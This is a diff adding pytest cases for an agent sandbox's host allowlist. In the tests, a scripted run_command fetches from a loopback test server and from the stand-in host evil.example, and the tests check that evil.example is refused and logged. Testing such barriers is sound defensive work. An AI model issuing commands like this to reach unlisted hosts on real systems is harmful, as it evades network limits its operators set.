@@ -19,6 +19,7 @@ from tests.planner.rig import Bench, call, replies, told
 from tests.skills.code_project import FIXED, FIXED_TESTS, LOADER, fix, make_project, patch_of
 from tests.workspace.bwrap import needs_bubblewrap
 from tests.workspace.test_children import processes
+from tests.workspace.test_reaching import serving
 
 SUBMIT = call("submit", summary="read all lines")
 FIX = call("write_file", path="shop/loader.py", text=FIXED)
@@ -236,3 +237,45 @@ async def test_an_attempt_whose_time_is_over_says_so(bench: Bench) -> None:
     with pytest.raises(Ended, match="the time of the attempt") as ended:
         await bench.work(ScriptedModel([]), attempt)
     assert ended.value.failure is FailureClass.LIMIT
+
+
+OPEN = (
+    "import os, sys, urllib.request\n"
+    "[os.environ.pop(name) for name in ('NO_PROXY', 'no_proxy')]\n"  # the server of the test is on loopback
+    "for url in sys.argv[1:]:\n"
+    "    try: print(urllib.request.urlopen(url, timeout=20).read().decode())\n"
+    "    except OSError as problem: print(problem)\n"
+)
+
+
+async def test_a_command_reaches_listed_hosts_only_and_each_try_is_recorded(bench: Bench) -> None:
+    with serving() as server:
+        fetch = f"python - http://{server.place}/a http://evil.example/{'x' * 20} <<'END'\n{OPEN}END"
+        calls = (FIX, call("run_command", command=fetch), call("run_command", command="sleep 600", seconds=1), SUBMIT)
+        built = await bench.build(*calls, hosts=(server.place, "pypi.example:443"))
+        assert server.seen == ["GET /a HTTP/1.1"]
+        step = built.steps[1]
+        assert step["outcome"] == "done"
+        assert [line.split(" (")[0] for line in step["reached"]] == [f"{server.place} reached"]
+        assert step["barred"] == ["evil.example:80 refused: the policy's `sandbox_hosts` do not list it"]
+        assert "reached" not in built.steps[2]
+        assert f"asked for hosts they may not reach (build): {step['barred'][0]}" in built.warnings
+        assert f"used the network (build): {server.place} reached" in built.warnings
+        (tool,) = [each for each in built.script.asked[0].tools if each.name == "run_command"]
+        assert f"{server.place}, pypi.example:443 only" in tool.description
+        answer = next(m.content for m in built.script.asked[2].messages if m.role == "tool" and "/a for" in m.content)
+        assert "network: evil.example:80 refused" in answer
+
+
+async def test_what_a_failed_attempt_reached_is_in_its_event_and_outlives_the_agent(bench: Bench) -> None:
+    with serving() as server:
+        fetch = f"python - http://{server.place}/a http://evil.example/ <<'END'\n{OPEN}END"
+        first = (call("run_command", command=fetch), ModelUnavailable("away"))
+        with pytest.raises(AttemptError) as caught:
+            await bench.build(*first, hosts=(server.place,))
+        detail = json.loads(caught.value.detail)
+        assert detail["barred"] == ["evil.example:80 refused: the policy's `sandbox_hosts` do not list it"]
+        assert detail["reached"][0].startswith(f"{server.place} reached (")
+        built = await bench.build(first[0], FIX, SUBMIT, lease=2, hosts=(server.place,))
+        assert server.seen == ["GET /a HTTP/1.1"], "the command is not run again"
+        assert "evil.example:80 refused" in built.warnings
